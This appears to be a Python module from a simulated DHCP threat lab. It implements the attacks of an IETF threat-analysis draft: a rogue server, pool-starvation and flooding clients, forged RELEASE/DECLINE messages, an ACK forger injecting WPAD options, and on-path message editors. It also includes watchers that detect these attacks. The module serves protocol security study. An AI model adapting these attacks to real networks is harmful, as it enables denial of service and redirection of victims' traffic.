"""The adversaries of draft-ietf-dhc-v4-threat-analysis, and the watchers that see what cannot be
prevented (2.3, 2.4).

Every adversary sends real DHCP messages as Ethernet frames from its position (`net.Adversary`):

- `DhcpSniffer`: what a host on the LAN learns from DHCP traffic it sees (2.1.2, 3.1, 3.3);
- `RogueServer`: answers clients' DISCOVERs and REQUESTs itself (2.1.1 refusal, 2.2 misconfiguration,
  3.3 token replay);
- `FakeClients`: many clients made up of random hardware addresses: pool starvation, the DECLINE
  variant (2.1.2) and flooding (2.1.3);
- `forge_release` / `forge_decline`: DHCPRELEASE / DHCPDECLINE on behalf of another client (2.1.2);
- `OnPathEditor`: an on-path element that rewrites or deletes messages (2.2, 2.4);
- `AlteringRelay`: a relay agent that rewrites what it relays (2.2, 2.4), built on `DhcpRelay`.

The watchers, for the threats whose only defense is to see them:

- `LeaseWatch` (2.3): learns leases from the DHCPACKs it sees and reports addresses in use without
  one (or by another hardware address than the lease's);
- `DeletionMonitor` (2.4): compares what enters and what leaves a stretch of the path.
"""

from __future__ import annotations

import random
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from ipaddress import IPv4Address

from threatlab.dhcp.relay import DhcpRelay
from threatlab.dhcp.wire import (
    BOOTREPLY,
    BOOTREQUEST,
    BROADCAST_FLAG,
    CLIENT_PORT,
    SERVER_PORT,
    Authentication,
    ClientIdentifier,
    DhcpMessage,
    DhcpMessageType,
    DomainNameServers,
    IpAddressLeaseTime,
    Message,
    MessageType,
    Option,
    RequestedIpAddress,
    Routers,
    ServerIdentifier,
    SubnetMask,
)
from threatlab.errors import DecodeError
from threatlab.net.adversary import Adversary
from threatlab.net.sim import Simulator
from threatlab.net.wire import ARP, BROADCAST_MAC, ETH_P_IP, IPPROTO_UDP, UDP, Ethernet, IPv4

__all__ = [
    "DhcpFrame",
    "parse_dhcp_frame",
    "dhcp_frame",
    "DhcpSniffer",
    "Sighting",
    "RogueServer",
    "ROGUE_VARIANTS",
    "FakeClients",
    "forge_release",
    "forge_decline",
    "AckForger",
    "OnPathEditor",
    "AlteringRelay",
    "ack_to_nak",
    "rewrite_config",
    "LeaseWatch",
    "DeletionMonitor",
]

_ZERO = IPv4Address(0)
_BROADCAST = IPv4Address("255.255.255.255")
_IP_UDP = b"\x08\x00"


# --- frames ----------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class DhcpFrame:
    """A DHCP message as it crossed the wire: its Ethernet, IP and UDP envelope, and its bytes."""

    eth: Ethernet
    ip: IPv4
    udp: UDP
    msg: DhcpMessage
    data: bytes  # the DHCP message bytes (the UDP payload)


def parse_dhcp_frame(frame: bytes) -> DhcpFrame | None:
    """The DHCP message in an Ethernet frame (UDP port 67 or 68), else None. Never raises."""
    if frame[12:14] != _IP_UDP or len(frame) < 42 or frame[23] != IPPROTO_UDP:
        return None
    try:
        eth = Ethernet.decode(frame)
        ip = IPv4.decode(eth.payload)
        if ip.mf or ip.frag_offset:
            return None
        udp = UDP.decode(ip.payload, ip.src, ip.dst)
        if udp.dst_port not in (SERVER_PORT, CLIENT_PORT) or udp.src_port not in (SERVER_PORT, CLIENT_PORT):
            return None
        return DhcpFrame(eth, ip, udp, DhcpMessage.decode(udp.payload), udp.payload)
    except DecodeError:
        return None


def dhcp_frame(
    data: bytes,
    *,
    src_mac: bytes,
    dst_mac: bytes,
    src_ip: IPv4Address,
    dst_ip: IPv4Address,
    src_port: int,
    dst_port: int,
    ident: int = 0,
) -> bytes:
    """An Ethernet frame carrying DHCP message bytes, checksums right."""
    seg = UDP(src_port, dst_port, data).encode(src_ip, dst_ip)
    packet = IPv4(src_ip, dst_ip, IPPROTO_UDP, seg, identification=ident & 0xFFFF)
    return Ethernet(dst_mac, src_mac, ETH_P_IP, packet.encode()).encode()


BOOTP_MIN = 300  # BOOTP (RFC 951, RFC 1542): a message is at least 300 bytes; real stacks pad to it


def _padded(msg: DhcpMessage) -> bytes:
    """`msg` encoded, padded with zeros to the BOOTP minimum as real clients and servers send it."""
    data = msg.encode()
    return data + bytes(max(0, BOOTP_MIN - len(data)))


def _reply_options(mtype: MessageType, server_id: IPv4Address, *, lease_time: int | None, mask: IPv4Address,
                   routers, dns, extra: tuple[Option, ...] = (),
                   auth: Callable[[], Authentication | None] | None = None) -> tuple[Option, ...]:
    """A forged server reply's options, in a real server's order; `lease_time` None leaves it out."""
    opts: list[Option] = [DhcpMessageType(mtype), ServerIdentifier(server_id)]
    if lease_time is not None:
        opts.append(IpAddressLeaseTime(lease_time))
    opts.append(SubnetMask(mask))
    if routers:
        opts.append(Routers(routers))
    if dns:
        opts.append(DomainNameServers(dns))
    opts += extra
    if auth is not None:
        a = auth()
        if a is not None:
            opts.append(a)
    return tuple(opts)


def _reframe(f: DhcpFrame, data: bytes) -> bytes:
    """The same envelope around new DHCP bytes (lengths and checksums recomputed)."""
    seg = UDP(f.udp.src_port, f.udp.dst_port, data).encode(f.ip.src, f.ip.dst)
    packet = replace(f.ip, payload=seg)
    return Ethernet(f.eth.dst, f.eth.src, f.eth.ethertype, packet.encode()).encode()


# --- sniffing (2.1.2, 3.1, 3.3) --------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Sighting:
    """A client's identity and what it said, as a LAN host reads it off a BOOTREQUEST (or the
    BOOTREPLY to it)."""

    time: int
    mtype: MessageType | int | None
    chaddr: bytes
    client_id: ClientIdentifier | None
    xid: int
    address: IPv4Address | None  # ciaddr, the requested address, or a reply's yiaddr
    server: IPv4Address | None
    auth: Authentication | None
    src_ip: IPv4Address
    src_mac: bytes
    op: int


class DhcpSniffer:
    """Records the DHCP messages a position sees (requests and replies), by client."""

    def __init__(
        self, adversary: Adversary, *, chain: Callable[[bytes, str, int], object] | None = None
    ) -> None:
        self.adversary = adversary
        self.sightings: list[Sighting] = []
        self.frames_seen = 0
        self._chain = chain
        self._own_macs: set[bytes] = set()
        adversary.on_frame = self._on_frame

    def ignore_mac(self, mac: bytes) -> None:
        """Frames from this MAC are the adversary's own (e.g. its fake clients): not recorded."""
        self._own_macs.add(mac)

    def _on_frame(self, frame: bytes, ifname: str, now: int) -> None:
        f = parse_dhcp_frame(frame)
        if f is not None and f.eth.src not in self._own_macs:
            self.frames_seen += 1
            m = f.msg
            address = (
                m.ciaddr
                if m.ciaddr != _ZERO
                else (m.requested_ip or (m.yiaddr if m.yiaddr != _ZERO else None))
            )
            self.sightings.append(
                Sighting(
                    now,
                    m.message_type,
                    m.mac,
                    m.client_id,
                    m.xid,
                    address,
                    m.server_id,
                    m.authentication,
                    f.ip.src,
                    f.eth.src,
                    m.op,
                )
            )
        if self._chain is not None:
            self._chain(frame, ifname, now)

    def clients(self) -> dict[bytes, Sighting]:
        """The last BOOTREQUEST seen from each client hardware address."""
        out: dict[bytes, Sighting] = {}
        for s in self.sightings:
            if s.op == BOOTREQUEST:
                out[s.chaddr] = s
        return out

    def leases(self) -> dict[bytes, Sighting]:
        """Per client: the last DHCPREQUEST that named its address and server (what a forger needs)."""
        out: dict[bytes, Sighting] = {}
        for s in self.sightings:
            if s.op == BOOTREQUEST and s.mtype == MessageType.REQUEST and s.address is not None:
                server = s.server
                if server is None and s.chaddr in out:
                    server = out[s.chaddr].server  # a renewal names no server: keep the one seen
                out[s.chaddr] = replace(s, server=server)
        return out

    def tokens(self) -> list[bytes]:
        """Protocol 0 configuration tokens seen in clear (RFC 3118 4; draft 3.1)."""
        seen: list[bytes] = []
        for s in self.sightings:
            if s.auth is not None and s.auth.protocol == 0 and s.auth.info and s.auth.info not in seen:
                seen.append(s.auth.info)
        return seen

    def auth_options(self) -> list[Authentication]:
        """Every authentication option seen, in order."""
        return [s.auth for s in self.sightings if s.auth is not None]


# --- rogue server (2.1.1, 2.2, 3.3) ----------------------------------------------------------------

# 2.1.1: "partial information (i.e., missing the IP address, yet containing other information)",
# "a non-routable (or otherwise bad) IP address", "respond to DHCPDISCOVER ... but then ignore the
# subsequent client DHCPREQUEST"; 2.2: a plausible lease whose router and DNS server are the attacker.
ROGUE_VARIANTS = ("partial", "bad-address", "offer-silence", "misconfigure")


class RogueServer:
    """A DHCP server the attacker runs on its LAN host, answering every client it sees.

    `variant` is one of ROGUE_VARIANTS. `server_id` is the identifier it puts in option 54: its own
    address, or (forged) the real server's. `auth` is an authentication option to put in every
    reply (a protocol 0 token it sniffed); `finish(data) -> data` post-processes the encoded reply
    (e.g. attaches a certificate option). `delay_ns` is its answering time."""

    def __init__(
        self,
        adversary: Adversary,
        sim: Simulator,
        *,
        variant: str = "misconfigure",
        server_id: IPv4Address,
        pool: Iterable[IPv4Address],
        mask: IPv4Address,
        routers: tuple[IPv4Address, ...] = (),
        dns: tuple[IPv4Address, ...] = (),
        lease_time: int = 86400,
        delay_ns: int = 0,
        auth: Callable[[], Authentication | None] | None = None,
        finish: Callable[[bytes], bytes] | None = None,
        serve: Callable[[DhcpMessage, int], bool] | None = None,
    ) -> None:
        if variant not in ROGUE_VARIANTS:
            raise ValueError(
                f"rogue server variant must be one of {', '.join(ROGUE_VARIANTS)}, got {variant!r}"
            )
        host = adversary.host
        if host is None:
            raise ValueError("a rogue server needs a host on the LAN")
        self.adversary = adversary
        self.host = host
        self.sim = sim
        self.variant = variant
        self.server_id = server_id
        self._pool = list(pool)
        self.mask = mask
        self.routers = routers
        self.dns = dns
        self.lease_time = lease_time
        self.delay_ns = delay_ns
        self.auth = auth
        self.finish = finish
        self.serve = serve  # serve(request, now): answer this one? (default: everyone)
        self.counters: Counter[str] = Counter()
        self._given: dict[bytes, IPv4Address] = {}
        self._offered: set[tuple[bytes, int]] = set()
        self._ifname = next(iter(host.interfaces))
        self.active = True

    def on_frame(self, frame: bytes, ifname: str, now: int) -> None:
        """Feed it every frame the adversary sees (chain it after a sniffer)."""
        if not self.active:
            return
        f = parse_dhcp_frame(frame)
        if f is None or f.msg.op != BOOTREQUEST or f.udp.dst_port != SERVER_PORT:
            return
        if f.eth.src == self.host.mac:
            return
        m = f.msg
        if self.serve is not None and not self.serve(m, now):
            return
        mtype = m.message_type
        if mtype == MessageType.DISCOVER:
            self._later(self._offer, m)
        elif mtype == MessageType.REQUEST:
            sid = m.server_id
            if sid is not None and sid != self.server_id:
                return  # the client took another server's offer
            if sid is None and m.mac not in self._given:
                return  # a renewal or INIT-REBOOT of a lease from someone else
            if (m.mac, m.xid) not in self._offered and sid is not None:
                return
            if self.variant == "offer-silence":
                self.counters["requests ignored"] += 1
                return
            self._later(self._ack, m)

    def _later(self, fn: Callable[[DhcpMessage], None], m: DhcpMessage) -> None:
        if self.delay_ns:
            self.sim.post(self.delay_ns, fn, m)
        else:
            fn(m)

    def _address(self, m: DhcpMessage) -> IPv4Address:
        a = self._given.get(m.mac)
        if a is None:
            a = self._pool[len(self._given) % len(self._pool)]
            self._given[m.mac] = a
        return a

    def _offer(self, m: DhcpMessage) -> None:
        self._offered.add((m.mac, m.xid))
        self.counters["offers"] += 1
        self._send(m, MessageType.OFFER, self._address(m), full=True)

    def _ack(self, m: DhcpMessage) -> None:
        address = self._address(m)
        if self.variant == "partial":
            # 2.1.1: other information, but no address (and so no lease)
            self.counters["partial acks"] += 1
            self._send(m, MessageType.ACK, _ZERO, full=False)
            return
        self.counters["acks"] += 1
        self._send(m, MessageType.ACK, address, full=True)

    def _send(self, m: DhcpMessage, mtype: MessageType, yiaddr: IPv4Address, *, full: bool) -> None:
        opts = _reply_options(mtype, self.server_id, lease_time=self.lease_time if full else None, mask=self.mask,
                              routers=self.routers, dns=self.dns, auth=self.auth)
        reply = DhcpMessage(
            op=BOOTREPLY,
            xid=m.xid,
            flags=m.flags,
            ciaddr=m.ciaddr,
            yiaddr=yiaddr,
            giaddr=m.giaddr,
            chaddr=m.chaddr,
            options=opts,
        )
        data = _padded(reply)
        if self.finish is not None:
            data = self.finish(data)
        src_ip = self.host.ip or _ZERO
        if m.broadcast or yiaddr == _ZERO:
            dst_ip, dst_mac = _BROADCAST, BROADCAST_MAC
        elif m.ciaddr != _ZERO:
            dst_ip, dst_mac = m.ciaddr, m.mac
        else:
            dst_ip, dst_mac = yiaddr, m.mac
        self.counters["packets"] += 1
        self.adversary.send_frame(
            dhcp_frame(
                data,
                src_mac=self.host.mac,
                dst_mac=dst_mac,
                src_ip=src_ip,
                dst_ip=dst_ip,
                src_port=SERVER_PORT,
                dst_port=CLIENT_PORT,
                ident=self.counters["packets"],
            ),
            self._ifname,
        )


# --- fake clients: starvation, decline starvation, flooding (2.1.2, 2.1.3) ---------------------


class FakeClients:
    """Clients the attacker makes up: DHCPDISCOVER from a fresh random hardware address at `rate`
    per second (each frame from that MAC, the broadcast flag set so the answer comes back to it).

    With `follow=True` it takes each offered address with a DHCPREQUEST (starvation, 2.1.2), and
    with `decline=True` declines it once acknowledged, "in the hopes that the server will remove
    the declined address from use for a longer period of time" (2.1.2). `follow=False` only
    floods (2.1.3). `fixed_chaddr` uses one hardware address throughout. `auth()` gives an
    authentication option to add to every message (a sniffed token), or None. The gaps between
    messages are 1/rate, each stretched or shrunk at random by up to `jitter` of it (a sending loop
    is not a metronome); with `poisson` they are exponential with mean 1/rate (many senders)."""

    def __init__(
        self,
        adversary: Adversary,
        sim: Simulator,
        rng: random.Random,
        *,
        rate: float,
        follow: bool = True,
        decline: bool = False,
        fixed_chaddr: bytes | None = None,
        message: MessageType = MessageType.DISCOVER,
        stop_at: int | None = None,
        auth: Callable[[], Authentication | None] | None = None,
        spoof_mac: bool = True,
        poisson: bool = False,
        jitter: float = 0.0,
    ) -> None:
        host = adversary.host
        if host is None:
            raise ValueError("fake clients need a host on the LAN")
        if not rate > 0:
            raise ValueError(f"rate must be > 0 messages/s, got {rate}")
        self.adversary = adversary
        self.host = host
        self.sim = sim
        self.rng = rng
        self.rate = rate
        self.follow = follow
        self.decline = decline
        self.fixed_chaddr = fixed_chaddr
        self.message = message
        self.stop_at = stop_at
        self.auth = auth
        self.spoof_mac = spoof_mac
        self.poisson = poisson
        self.jitter = jitter
        self.counters: Counter[str] = Counter()
        self.leases: dict[bytes, IPv4Address] = {}  # chaddr -> address acknowledged
        self._pending: dict[int, bytes] = {}  # xid -> chaddr of a DISCOVER / REQUEST in flight
        self._macs: set[bytes] = set()
        self._ifname = next(iter(host.interfaces))
        self._timer = None
        self.started_at: int | None = None

    @property
    def packets(self) -> int:
        return self.counters["packets"]

    def start(self, at: int | None = None) -> None:
        self._timer = self.sim.at(self.sim.now if at is None else at, self._tick)

    def stop(self) -> None:
        if self._timer is not None:
            self._timer.cancel()
            self._timer = None

    def owns(self, mac: bytes) -> bool:
        return mac in self._macs

    def _tick(self) -> None:
        now = self.sim.now
        if self.stop_at is not None and now >= self.stop_at:
            self._timer = None
            return
        if self.started_at is None:
            self.started_at = now
        chaddr = self.fixed_chaddr or bytes([0x02]) + self.rng.getrandbits(40).to_bytes(5, "big")
        self._macs.add(chaddr)
        xid = self.rng.getrandbits(32)
        if self.message is MessageType.DISCOVER:
            self._pending[xid] = chaddr
            self._send(chaddr, xid, MessageType.DISCOVER)
        else:  # flooding with DHCPREQUESTs for made-up addresses (INIT-REBOOT form)
            self._send(
                chaddr, xid, MessageType.REQUEST, (RequestedIpAddress(IPv4Address(self.rng.getrandbits(32))),)
            )
        if self.poisson:
            gap = self.rng.expovariate(self.rate)
        else:
            gap = (1 + self.rng.uniform(-self.jitter, self.jitter) if self.jitter else 1) / self.rate
        self._timer = self.sim.schedule(max(1, round(gap * 1e9)), self._tick)

    def on_frame(self, frame: bytes, ifname: str, now: int) -> None:
        """Feed it the frames the adversary sees: the answers to its own clients."""
        if not self.follow:
            return
        f = parse_dhcp_frame(frame)
        if f is None or f.msg.op != BOOTREPLY:
            return
        m = f.msg
        chaddr = self._pending.get(m.xid)
        if chaddr is None or m.mac != chaddr:
            return
        mtype = m.message_type
        if mtype == MessageType.OFFER and m.yiaddr != _ZERO:
            self.counters["offers"] += 1
            sid = m.server_id
            opts: tuple[Option, ...] = (RequestedIpAddress(m.yiaddr),)
            if sid is not None:
                opts += (ServerIdentifier(sid),)
            self._send(chaddr, m.xid, MessageType.REQUEST, opts)
        elif mtype == MessageType.ACK and m.yiaddr != _ZERO:
            del self._pending[m.xid]
            self.counters["acks"] += 1
            self.leases[chaddr] = m.yiaddr
            if self.decline:
                sid = m.server_id
                opts = (RequestedIpAddress(m.yiaddr),) + ((ServerIdentifier(sid),) if sid is not None else ())
                self._send(chaddr, m.xid, MessageType.DECLINE, opts)
                self.counters["declines"] += 1
        elif mtype == MessageType.NAK:
            self._pending.pop(m.xid, None)
            self.counters["naks"] += 1

    def _send(self, chaddr: bytes, xid: int, mtype: MessageType, extra: tuple[Option, ...] = ()) -> None:
        opts: list[Option] = [DhcpMessageType(mtype), *extra]
        if self.auth is not None:
            a = self.auth()
            if a is not None:
                opts.append(a)
        data = _padded(DhcpMessage(op=BOOTREQUEST, xid=xid, flags=BROADCAST_FLAG, chaddr=chaddr, options=tuple(opts)))
        src_mac = chaddr if self.spoof_mac else self.host.mac
        self.counters["packets"] += 1
        self.counters[f"sent {mtype.name}"] += 1
        self.adversary.send_frame(
            dhcp_frame(
                data,
                src_mac=src_mac,
                dst_mac=BROADCAST_MAC,
                src_ip=_ZERO,
                dst_ip=_BROADCAST,
                src_port=CLIENT_PORT,
                dst_port=SERVER_PORT,
                ident=self.counters["packets"],
            ),
            self._ifname,
        )


# --- forged RELEASE and DECLINE (2.1.2) ------------------------------------------------------------


def _victim_message(
    mtype: MessageType, victim: Sighting, xid: int, extra: tuple[Option, ...], ciaddr: IPv4Address = _ZERO
) -> bytes:
    opts: list[Option] = [DhcpMessageType(mtype)]
    if victim.client_id is not None:
        opts.append(victim.client_id)
    opts += extra
    return _padded(DhcpMessage(op=BOOTREQUEST, xid=xid, ciaddr=ciaddr, chaddr=victim.chaddr, options=tuple(opts)))


def forge_release(
    adversary: Adversary, victim: Sighting, server: IPv4Address, rng: random.Random, *, spoof_source: bool
) -> bool:
    """A DHCPRELEASE of the victim's lease, with its chaddr and client identifier (RFC 2131 4.4.6:
    unicast to the server from ciaddr). `spoof_source`: from the victim's IP address rather than
    the attacker's own (what a source check sees)."""
    host = adversary.host
    assert host is not None and victim.address is not None
    data = _victim_message(
        MessageType.RELEASE, victim, rng.getrandbits(32), (ServerIdentifier(server),), ciaddr=victim.address
    )
    src = victim.address if spoof_source else host.ip
    seg = UDP(CLIENT_PORT, SERVER_PORT, data).encode(src, server)
    return adversary.send_ip(IPv4(src, server, IPPROTO_UDP, seg, identification=rng.getrandbits(16)))


def forge_decline(adversary: Adversary, victim: Sighting, server: IPv4Address, rng: random.Random) -> bool:
    """A DHCPDECLINE of the victim's address in its name (broadcast from 0.0.0.0, as a client that
    found its address in use sends it, RFC 2131 4.4.1)."""
    host = adversary.host
    assert host is not None and victim.address is not None
    data = _victim_message(
        MessageType.DECLINE,
        victim,
        rng.getrandbits(32),
        (RequestedIpAddress(victim.address), ServerIdentifier(server)),
    )
    frame = dhcp_frame(
        data,
        src_mac=host.mac,
        dst_mac=BROADCAST_MAC,
        src_ip=_ZERO,
        dst_ip=_BROADCAST,
        src_port=CLIENT_PORT,
        dst_port=SERVER_PORT,
        ident=rng.getrandbits(16),
    )
    return adversary.send_frame(frame)


# --- forged answers (4.4) --------------------------------------------------------------------------


class AckForger:
    """Races the server with a DHCPACK of its own to every DHCPREQUEST (SELECTING) and DHCPINFORM
    it sees: the public data right (it is public, draft 4.4.1: the attacker reads it off the wire),
    and `inject` options of its choosing (e.g. option 252, a WPAD proxy URL). The server identifier
    is the one the request names, or the one learned from the server's replies."""

    def __init__(
        self,
        adversary: Adversary,
        *,
        mask: IPv4Address,
        routers: tuple[IPv4Address, ...],
        dns: tuple[IPv4Address, ...],
        inject: tuple[Option, ...],
        lease_time: int = 3600,
        auth: Callable[[], Authentication | None] | None = None,
    ) -> None:
        host = adversary.host
        if host is None:
            raise ValueError("an ACK forger needs a host on the LAN")
        self.adversary = adversary
        self.host = host
        self.mask = mask
        self.routers = routers
        self.dns = dns
        self.inject = inject
        self.lease_time = lease_time
        self.auth = auth
        self.server: IPv4Address | None = None
        self.counters: Counter[str] = Counter()

    def on_frame(self, frame: bytes, ifname: str, now: int) -> None:
        f = parse_dhcp_frame(frame)
        if f is None or f.eth.src == self.host.mac:
            return
        m = f.msg
        if m.op == BOOTREPLY:
            if m.server_id is not None:
                self.server = m.server_id
            return
        mtype = m.message_type
        if mtype == MessageType.REQUEST and m.server_id is not None and m.requested_ip is not None:
            self._ack(m, m.requested_ip, m.server_id, lease=True)
        elif mtype == MessageType.INFORM and m.ciaddr != _ZERO and self.server is not None:
            self._ack(m, _ZERO, self.server, lease=False)

    def _ack(self, m: DhcpMessage, yiaddr: IPv4Address, server: IPv4Address, *, lease: bool) -> None:
        opts = _reply_options(MessageType.ACK, server, lease_time=self.lease_time if lease else None,
                              mask=self.mask, routers=self.routers, dns=self.dns, extra=self.inject,
                              auth=self.auth)
        reply = DhcpMessage(
            op=BOOTREPLY,
            xid=m.xid,
            flags=m.flags,
            ciaddr=m.ciaddr,
            yiaddr=yiaddr,
            chaddr=m.chaddr,
            options=opts,
        )
        data = _padded(reply)
        dst_ip = m.ciaddr if m.ciaddr != _ZERO else (yiaddr if not m.broadcast else _BROADCAST)
        dst_mac = BROADCAST_MAC if dst_ip == _BROADCAST else m.mac
        self.counters["packets"] += 1
        self.counters["forged acks"] += 1
        self.adversary.send_frame(
            dhcp_frame(
                data,
                src_mac=self.host.mac,
                dst_mac=dst_mac,
                src_ip=server,
                dst_ip=dst_ip,
                src_port=SERVER_PORT,
                dst_port=CLIENT_PORT,
                ident=self.counters["packets"],
            )
        )


# --- on the path (2.2, 2.4) ------------------------------------------------------------------------

# An edit takes a DHCP message and gives the message to send instead, the same object to pass the
# bytes on untouched, or None to delete it.
Edit = Callable[[DhcpMessage], "DhcpMessage | None"]


def ack_to_nak(msg: DhcpMessage) -> DhcpMessage | None:
    """2.4: "a DHCPACK could be modified to a DHCPNAK, thereby denying the client a lease"."""
    if msg.op != BOOTREPLY or msg.message_type != MessageType.ACK:
        return msg
    keep = tuple(o for o in msg.options if o.code in (54, 90))  # server id; the MAC, now wrong
    return replace(
        msg,
        yiaddr=_ZERO,
        ciaddr=_ZERO,
        options=(DhcpMessageType(MessageType.NAK),) + keep + (Message(b"address not available"),),
    )


def rewrite_config(router: IPv4Address, dns: IPv4Address) -> Edit:
    """2.2: the router and DNS server of every OFFER and ACK become the attacker's."""

    def edit(msg: DhcpMessage) -> DhcpMessage | None:
        if msg.op != BOOTREPLY or msg.message_type not in (MessageType.OFFER, MessageType.ACK):
            return msg
        return msg.with_options(Routers((router,)), DomainNameServers((dns,)))

    return edit


class OnPathEditor:
    """The intercept of an on-path bridge: each DHCP message crossing it goes through `edit`
    (`direction` is the port it came in on: "host" from the victim, "net" from the LAN);
    everything else passes. Counts what it saw, changed and deleted, with the times."""

    def __init__(self, adversary: Adversary, edit: Callable[[DhcpMessage, str], DhcpMessage | None]) -> None:
        self.adversary = adversary
        self.edit = edit
        self.counters: Counter[str] = Counter()
        self.deleted_at: list[int] = []
        adversary.intercept = self._intercept

    def _intercept(self, frame: bytes, direction: str) -> bytes | None:
        f = parse_dhcp_frame(frame)
        if f is None:
            return frame
        self.counters["seen"] += 1
        new = self.edit(f.msg, direction)
        if new is None:
            self.counters["deleted"] += 1
            self.deleted_at.append(self.adversary.node.sim.now)
            return None
        if new is f.msg:
            return frame
        self.counters["modified"] += 1
        return _reframe(f, _padded(new))


class AlteringRelay(DhcpRelay):
    """A relay agent that is also the attacker (2.2: "relay agents or other network elements may
    alter packets between a client and server"): replies to clients go through `edit`."""

    def __init__(self, config, edit: Edit) -> None:
        super().__init__(config)
        self.edit = edit

    def alter_to_client(self, message: DhcpMessage) -> DhcpMessage | None:
        return self.edit(message)


# --- watchers (2.3, 2.4) ---------------------------------------------------------------------------


@dataclass
class Finding:
    time: int
    address: IPv4Address
    mac: bytes
    reason: str  # "no lease" or "not the lease's hardware address"


class LeaseWatch:
    """2.3 detection: a monitor on the LAN (arpwatch, DHCP snooping in report mode) that learns
    leases from the DHCPACKs it sees and checks every ARP sender and IPv4 source against them.
    `exempt` are statically configured infrastructure addresses. It reports; it prevents nothing."""

    def __init__(self, exempt: Iterable[IPv4Address] = ()) -> None:
        self.leases: dict[IPv4Address, tuple[bytes, int]] = {}  # address -> (chaddr, expiry ns)
        self.exempt = set(exempt)
        self.findings: list[Finding] = []
        self._flagged: set[tuple[IPv4Address, bytes]] = set()

    def on_frame(self, frame: bytes, now: int) -> None:
        if frame[12:14] == b"\x08\x06":
            try:
                arp = ARP.decode(Ethernet.decode(frame).payload)
            except DecodeError:
                return
            self._check(arp.sender_ip, arp.sender_mac, now)
            return
        f = parse_dhcp_frame(frame)
        if f is not None:
            m = f.msg
            if m.op == BOOTREPLY and m.message_type == MessageType.ACK and m.yiaddr != _ZERO:
                lease = m.lease_time or 0
                self.leases[m.yiaddr] = (m.mac, now + lease * 1_000_000_000)
            elif m.op == BOOTREQUEST and m.message_type == MessageType.RELEASE:
                self.leases.pop(m.ciaddr, None)
            return
        if frame[12:14] == b"\x08\x00" and len(frame) >= 34:
            self._check(IPv4Address(frame[26:30]), frame[6:12], now)

    def _check(self, ip: IPv4Address, mac: bytes, now: int) -> None:
        if ip == _ZERO or ip in self.exempt:
            return
        lease = self.leases.get(ip)
        if lease is None or lease[1] <= now:
            reason = "no lease"
        elif lease[0] != mac:
            reason = "not the lease's hardware address"
        else:
            return
        if (ip, mac) not in self._flagged:
            self._flagged.add((ip, mac))
            self.findings.append(Finding(now, ip, mac, reason))


class DeletionMonitor:
    """2.4 detection: taps on both ends of a stretch of path (the victim's wire and the LAN) match
    DHCP requests by (chaddr, xid, secs): one seen entering that never leaves within `window_ns`
    was deleted on the way. It can tell; it cannot bring the message back."""

    def __init__(self, sim: Simulator, window_ns: int = 100_000_000) -> None:
        self.sim = sim
        self.window_ns = window_ns
        self.entered: dict[tuple[bytes, int, int], int] = {}
        self.left: set[tuple[bytes, int, int]] = set()
        self.detections: list[int] = []  # when each deletion was noticed

    def on_entry(self, frame: bytes, now: int) -> None:
        f = parse_dhcp_frame(frame)
        if f is None or f.msg.op != BOOTREQUEST:
            return
        key = (f.msg.mac, f.msg.xid, f.msg.secs)
        if key not in self.entered:
            self.entered[key] = now
            self.sim.post(self.window_ns, self._check, key)

    def on_exit(self, frame: bytes, now: int) -> None:
        f = parse_dhcp_frame(frame)
        if f is not None and f.msg.op == BOOTREQUEST:
            self.left.add((f.msg.mac, f.msg.xid, f.msg.secs))

    def _check(self, key: tuple[bytes, int, int]) -> None:
        if key not in self.left:
            self.detections.append(self.sim.now)
